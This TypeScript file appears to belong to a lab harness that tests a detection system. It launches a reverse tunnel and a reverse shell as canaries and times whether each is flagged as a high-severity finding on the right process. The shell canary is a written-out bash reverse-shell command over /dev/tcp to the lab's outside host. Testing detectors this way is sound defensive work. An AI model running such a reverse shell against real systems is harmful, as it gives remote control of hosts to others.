import type { ChildProcess } from "node:child_process"
import { firstUseUs, pidOf } from "../lab/case.js"
import { addresses } from "../lab/network.js"
import type { LabNetwork } from "../lab/network.js"
import { stopProcess, waitForLine } from "../lab/processes.js"
import type { LabFinding, Watch } from "../lab/watch.js"
import type { CanaryKind } from "./catalogue.js"

export type When = "before" | "during" | "after" | "minute after"

export interface CanaryResult {
  readonly kind: CanaryKind
  readonly when: When
  /** The gravest finding about its connection or its process, whatever it was. */
  readonly class: string | undefined
  readonly severity: string | undefined
  /** Its id. */
  readonly finding: string | undefined
  /** It names the canary's own process or a child of it. */
  readonly isProcessRight: boolean
  /** From the first byte that the outside sent to the arrival of the right finding in the findings file. */
  readonly seconds: number | undefined
}

const classes: Readonly<Record<CanaryKind, string>> = { relay: "reverse_tunnel", shell: "reverse_shell" }
const severities = ["info", "low", "medium", "high", "critical"]
const grave = severities.indexOf("high")
/** How long a finding is waited for, after the first byte. The goal is 2 s. */
const findLimitMs = 10_000
/** Far more turns than a finding needs, so that it is in use as long as it is waited for. */
const turns = "220"
const betweenTurnsMs = "50"
const commands = "12"
const betweenCommandsMs = "800"
const servicePort = "8000"

interface Use {
  readonly kind: CanaryKind
  readonly when: When
  /** How many findings there were before. */
  readonly from: number
  readonly port: number
  /** Of the relay or shell. */
  readonly pid: number
  readonly firstUs: number
}

/** Relays and shells to be found, each a process and a port of its own. */
export class Canaries {
  readonly #network: LabNetwork
  readonly #program: string
  readonly #watch: Watch
  readonly #uses: Use[] = []
  #port = 7_000

  private constructor(network: LabNetwork, program: string, watch: Watch) {
    this.#network = network
    this.#program = program
    this.#watch = watch
  }

  /** Resolves when the service that the relays reach listens. */
  static async prepare(network: LabNetwork, program: string, watch: Watch): Promise<Canaries> {
    await waitForLine(network.start("inside", program, "service", "127.0.0.1", servicePort), "listening")
    return new Canaries(network, program, watch)
  }

  /** Opens one, uses it, and waits for what is said of it. */
  async run(kind: CanaryKind, when: When): Promise<CanaryResult> {
    this.#port += 1
    const port = this.#port
    const from = this.#watch.arrivals.length
    const outside = this.#network.start("outside", this.#program, ...this.#outsideOf(kind, port))
    await waitForLine(outside, "listening")
    const firstUse = firstUseUs(outside)
    const inside = this.#startInside(kind, port)
    try {
      const use: Use = { kind, when, from, port, pid: pidOf(inside), firstUs: await firstUse }
      this.#uses.push(use)
      await this.#watch.find(from, (finding) => isRight(finding, use), findLimitMs)
      return this.#judge(use)
    } finally {
      // An interactive shell takes no SIGTERM: it ends when nobody types any more.
      await stopProcess(outside)
      inside.kill("SIGKILL")
    }
  }

  /** Of all that ran, with what came after it had been waited for. */
  results(): readonly CanaryResult[] {
    return this.#uses.map((use) => this.#judge(use))
  }

  #judge(use: Use): CanaryResult {
    const about = this.#watch.arrivals.slice(use.from).filter(({ finding }) => isAbout(finding, use))
    const right = about.find(({ finding }) => isRight(finding, use))
    const gravest = right?.finding ?? about.sort((a, b) => rank(b.finding) - rank(a.finding))[0]?.finding
    return {
      kind: use.kind,
      when: use.when,
      class: gravest?.class,
      severity: gravest?.severity,
      finding: gravest?.id,
      isProcessRight: gravest !== undefined && names(gravest, use.pid),
      seconds: right && Math.max(0, (right.atUs - use.firstUs) / 1e6),
    }
  }

  #outsideOf(kind: CanaryKind, port: number): readonly string[] {
    return kind === "relay"
      ? ["user", `${port}`, turns, betweenTurnsMs]
      : ["typist", `${port}`, commands, betweenCommandsMs]
  }

  #startInside(kind: CanaryKind, port: number): ChildProcess {
    if (kind === "relay") {
      const target = [addresses.outside, `${port}`, "127.0.0.1", servicePort]
      return this.#network.start("inside", this.#program, "relay", ...target)
    }
    // Without start-up files of a person: they take locks that a shell which is ended leaves behind.
    const home = `HOME=${this.#network.folder}`
    return this.#network.start(
      "inside",
      "env",
      home,
      "bash",
      "-c",
      `exec bash -i >& /dev/tcp/${addresses.outside}/${port} 0>&1`,
    )
  }
}

/** Found within 10 s as what it is, gravely enough for a call at night, and in the right process. */
export function isFound({ seconds, isProcessRight }: CanaryResult): boolean {
  return seconds !== undefined && seconds * 1e3 <= findLimitMs && isProcessRight
}

function isRight(finding: LabFinding, use: Use): boolean {
  return finding.class === classes[use.kind] && severities.indexOf(finding.severity) >= grave && isAbout(finding, use)
}

function isAbout(finding: LabFinding, { pid, port }: Use): boolean {
  const { connection } = finding as { readonly connection: { readonly remote?: { readonly port: number } } | null }
  return names(finding, pid) || connection?.remote?.port === port
}

/** A finding names a process when it is about it or about something that it started. */
export function names({ process }: LabFinding, pid: number): boolean {
  return process.pid === pid || process.ancestors.some((ancestor) => ancestor.pid === pid)
}

const rank = ({ severity }: LabFinding): number => severities.indexOf(severity)
